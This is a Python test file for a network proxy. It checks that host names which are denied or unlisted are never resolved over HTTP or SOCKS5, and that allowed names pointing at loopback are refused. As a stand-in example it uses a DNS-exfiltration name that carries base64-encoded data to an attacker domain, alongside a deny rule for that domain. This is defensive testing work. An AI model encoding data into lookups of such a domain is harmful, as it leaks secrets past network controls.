"""Attack class: DNS exfiltration. A name the policy denies (or does not list) is never looked up:
the lookup itself carries data out (``c2vjcmv0.exfil.example``). Names are resolved only after an
allow, and the addresses are then checked (a name resolving to loopback is ``not_allowed_local``).

The event loop's ``getaddrinfo`` (what the proxy's resolver calls) is replaced by a recorder."""

from __future__ import annotations

import asyncio
import json
import socket
from typing import Any

import pytest

from tests.proxy.harness import running

CONFIG = """
[permissions.t.network.domains]
"allowed.example" = "allow"
"*.exfil.example" = "deny"
"""


def record_lookups(loop: asyncio.AbstractEventLoop) -> list[str]:
    looked_up: list[str] = []

    async def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> list[Any]:
        looked_up.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port or 0))]

    loop.getaddrinfo = getaddrinfo  # type: ignore[method-assign]
    return looked_up


async def http_exchange(port: int, data: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    answer = await asyncio.wait_for(reader.read(), 5)
    writer.close()
    return answer


async def socks_exchange(port: int, host: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"\x05\x01\x00")
    assert await reader.readexactly(2) == b"\x05\x00"
    writer.write(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + (443).to_bytes(2, "big"))
    answer = await asyncio.wait_for(reader.read(), 5)
    writer.close()
    return answer


@pytest.mark.parametrize("name", ["c2vjcmv0.exfil.example", "c2vjcmv0.unlisted.example"])
def test_a_denied_or_unlisted_name_is_never_resolved(tmp_path, name):
    async def scenario() -> tuple[list[bytes], list[str]]:
        looked_up = record_lookups(asyncio.get_running_loop())
        async with running(tmp_path, CONFIG) as proxy:
            http, socks = proxy.addresses["http"][1], proxy.addresses["socks5"][1]
            answers = [
                await http_exchange(http, f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode()),
                await http_exchange(http, f"GET http://{name}/x HTTP/1.1\r\nHost: {name}\r\n"
                                          "Connection: close\r\n\r\n".encode()),
                await socks_exchange(socks, name.encode()),
            ]
        return answers, looked_up

    answers, looked_up = asyncio.run(scenario())
    assert answers[0].startswith(b"HTTP/1.1 403") and answers[1].startswith(b"HTTP/1.1 403")
    assert answers[2][:2] == b"\x05\x02"
    assert looked_up == []


def test_an_allowed_name_is_resolved_then_its_addresses_checked(tmp_path):
    async def scenario() -> tuple[bytes, bytes, list[str]]:
        looked_up = record_lookups(asyncio.get_running_loop())
        async with running(tmp_path, CONFIG) as proxy:
            http = proxy.addresses["http"][1]
            connect = await http_exchange(http, b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
            plain = await http_exchange(http, b"GET http://allowed.example:8080/x HTTP/1.1\r\n"
                                              b"Host: allowed.example:8080\r\nConnection: close\r\n\r\n")
        return connect, plain, looked_up

    connect, plain, looked_up = asyncio.run(scenario())
    assert connect.startswith(b"HTTP/1.1 403") and b"resolves to a local or private address" in connect
    assert plain.startswith(b"HTTP/1.1 403")
    assert json.loads(plain.partition(b"\r\n\r\n")[2])["reason"] == "not_allowed_local"
    assert looked_up == ["allowed.example", "allowed.example"]
